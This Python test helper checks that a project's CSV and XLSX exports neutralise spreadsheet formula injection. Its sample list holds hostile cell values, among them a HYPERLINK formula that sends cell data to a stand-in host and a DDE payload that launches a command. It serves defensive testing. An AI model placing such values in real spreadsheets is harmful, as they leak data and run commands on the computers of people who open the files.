"""Read back every cell of the CSV zip and XLSX Terbuka writes, for the formula-injection tests."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl

# Titles a spreadsheet would run as formulas if written raw (OWASP "CSV Injection").
FORMULA_TITLES = [
    '=HYPERLINK("https://penipu.example/?d="&A1,"Klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def formula_start(cell: str) -> bool:
    """Report whether cell starts with a formula character, at once or after white space."""
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


def is_number(cell: str) -> bool:
    """Report whether a CSV cell is a plain number such as -5 (a value, not a formula)."""
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell


def csv_cells(csv_zip: Path) -> list[str]:
    """Return every cell, headings included, of every CSV file in csv_zip."""
    cells: list[str] = []
    with zipfile.ZipFile(csv_zip) as zf:
        for name in zf.namelist():
            text = io.TextIOWrapper(zf.open(name), encoding="utf-8", newline="")
            cells += [cell for row in csv.reader(text) for cell in row]
    return cells


def xlsx_cells(xlsx: Path) -> list[openpyxl.cell.Cell]:
    """Return every cell, headings included, of every sheet of the workbook xlsx."""
    book = openpyxl.load_workbook(xlsx)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_no_formula(csv_zip: Path, xlsx: Path, texts: list[str]) -> None:
    """Assert no cell can run as a formula, and that each of texts is in both files.

    CSV: no cell but a number starts with = + - @ tab CR LF, not even after white space; each
    text appears as `'` + text. XLSX: no formula cell, each text appears unchanged as a text cell.
    """
    cells = csv_cells(csv_zip)
    assert cells, "no CSV cell read"
    bad = [c for c in cells if formula_start(c) and not is_number(c)]
    assert not bad, f"CSV cells that start a formula: {bad}"
    for text in texts:
        assert "'" + text in cells, f"{text!r} missing from the CSV"
    book = xlsx_cells(xlsx)
    formulas = [f"{c.parent.title}!{c.coordinate}" for c in book if c.data_type == "f"]
    assert not formulas, f"XLSX formula cells: {formulas}"
    text_cells = {c.value: c for c in book if isinstance(c.value, str)}
    for text in texts:
        cell = text_cells.get(text)
        assert cell is not None, f"{text!r} missing from the XLSX"
        assert cell.data_type == "s" and cell.quotePrefix
